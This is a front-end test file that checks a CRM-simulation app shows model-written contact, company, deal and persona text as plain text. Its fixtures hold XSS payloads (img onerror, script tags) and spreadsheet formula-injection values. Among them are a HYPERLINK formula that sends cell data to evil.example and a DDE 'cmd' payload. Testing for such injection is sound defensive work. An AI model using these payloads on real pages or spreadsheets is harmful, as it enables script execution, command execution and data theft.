import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { company, contact, deal, funnel, job, page, plannedSimulation, recordEvent, staff, user } from '../test/fixtures';
import { scheduleHandler, simulationResponse } from '../test/handlers';
import { server } from '../test/server';
import { renderApp } from '../test/utils';

// What a language model may write into a record: markup and spreadsheet formulas. Both are data.
const MARKUP = '<img src=x onerror=alert(1)>';
const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Offer")';

/** No element was made from record text: the page has no image, script, bold or event-handler attribute of its own. */
function expectNoMarkupFromText(root: HTMLElement) {
  expect(root.querySelector('img, script, b, [onerror]')).toBeNull();
}

describe('record text is shown as text', () => {
  it('renders markup and formulas in contacts, companies, deals and the activity as written', async () => {
    const sim = plannedSimulation({ status: 'completed', name: MARKUP, theme: FORMULA, industry: SCRIPT, connection: null });
    server.use(
      http.get('/api/auth/me/', () => HttpResponse.json(user)),
      http.get('/api/simulations/7/', () => simulationResponse(sim)),
      http.get('/api/simulations/7/jobs/', () => HttpResponse.json(page([job({ id: 1, status: 'completed' })]))),
      http.get('/api/simulations/7/contacts/', () =>
        HttpResponse.json(
          page([
            contact({
              id: 500,
              firstname: MARKUP,
              lastname: '+SUM(1,2)',
              email: '=1+2@example.com',
              jobtitle: FORMULA,
              company: '<b>Bold</b> & Co',
              industry: '<script>alert(2)</script>', // not the simulation's, so it has a column
              phone: "=cmd|' /C calc'!A0",
              city: '@SUM(1+1)',
              company_id: 300,
            }),
          ]),
        ),
      ),
      http.get('/api/simulations/7/companies/', () =>
        HttpResponse.json(page([company({ id: 300, name: MARKUP, industry: FORMULA, city: SCRIPT, country: '-1+1' })])),
      ),
      http.get('/api/simulations/7/deals/', () => HttpResponse.json(page([deal({ id: 900, name: `${MARKUP} - ${FORMULA}` })]))),
      http.get('/api/simulations/7/events/', () =>
        HttpResponse.json(
          page([
            recordEvent({ id: 1, object_id: 500, old_value: null, new_value: 'lead' }),
            recordEvent({ id: 2, object_type: 'deal', object_id: 900, property: 'dealstage', old_value: null, new_value: 'qualifiedtobuy' }),
          ]),
        ),
      ),
      http.get('/api/simulations/7/funnel/', () => HttpResponse.json(funnel())),
    );
    scheduleHandler();
    const ue = userEvent.setup();
    const { container } = renderApp('/simulations/7');

    expect(await screen.findByRole('heading', { level: 1, name: MARKUP })).toBeInTheDocument();
    const [row] = await within(screen.getByRole('tabpanel', { name: 'Contacts' })).findAllByTestId('contact-row');
    const cell = (key: string) => row!.querySelector(`[data-column="${key}"]`);
    // The email under the name, in the same cell.
    expect(cell('name')).toHaveTextContent(`${MARKUP} +SUM(1,2)=1+2@example.com`);
    expect(cell('phone')).toHaveTextContent("=cmd|' /C calc'!A0");
    expect(within(row!).getByText(FORMULA)).toBeInTheDocument();
    expect(within(row!).getByText('<b>Bold</b> & Co')).toBeInTheDocument();
    expect(within(row!).getByText('<script>alert(2)</script>')).toBeInTheDocument();
    expect(cell('location')).toHaveTextContent('@SUM(1+1), United Kingdom');
    expectNoMarkupFromText(container);

    await ue.click(screen.getByRole('tab', { name: 'Companies' }));
    const [companyRow] = await within(screen.getByRole('tabpanel', { name: 'Companies' })).findAllByTestId('company-row');
    for (const text of [MARKUP, FORMULA, `${SCRIPT}, -1+1`]) expect(within(companyRow!).getByText(text)).toBeInTheDocument();
    expectNoMarkupFromText(container);

    await ue.click(screen.getByRole('tab', { name: 'Deals' }));
    const [dealRow] = await within(screen.getByRole('tabpanel', { name: 'Deals' })).findAllByTestId('deal-row');
    expect(within(dealRow!).getByText(`${MARKUP} - ${FORMULA}`)).toBeInTheDocument();
    expect(dealRow!.querySelector('[data-column="contact"]')).toHaveTextContent(`${MARKUP} +SUM(1,2)<b>Bold</b> & Co`);
    expectNoMarkupFromText(container);

    await ue.click(screen.getByRole('tab', { name: 'Stage changes' }));
    const events = await within(screen.getByRole('tabpanel', { name: 'Stage changes' })).findAllByTestId('event-row');
    expect(events[0]).toHaveTextContent(`${MARKUP} +SUM(1,2)`);
    expect(await within(events[1]!).findByText(`${MARKUP} - ${FORMULA}`)).toBeInTheDocument();
    expectNoMarkupFromText(container);
  });

  it('renders a cached persona pool written by the model as text', async () => {
    const persona = { firstname: MARKUP, lastname: SCRIPT, jobtitle: FORMULA, company: '+SUM(1,2)', email: 'a@example.com', phone: '@SUM(1)' };
    server.use(
      http.get('/api/auth/me/', () => HttpResponse.json(staff)),
      http.get('/api/personas/', () =>
        HttpResponse.json(
          page([{ id: 1, theme: MARKUP, industry: FORMULA, source: 'openai', hits: 0, misses: 1, created_at: '2026-11-01T10:00:00Z', persona_data: { personas: [persona] } }]),
        ),
      ),
    );
    const ue = userEvent.setup();
    const { container } = renderApp('/personas');

    const [row] = await screen.findAllByTestId('persona-row');
    expect(within(row!).getByText(MARKUP)).toBeInTheDocument();
    expect(within(row!).getByText(FORMULA)).toBeInTheDocument();
    await ue.click(within(row!).getByTestId('show-personas'));
    const pool = await screen.findByTestId('persona-pool');
    for (const text of [`${MARKUP} ${SCRIPT}`, FORMULA, '+SUM(1,2)', '@SUM(1)']) expect(within(pool).getByText(text)).toBeInTheDocument();
    expectNoMarkupFromText(container);
  });
});
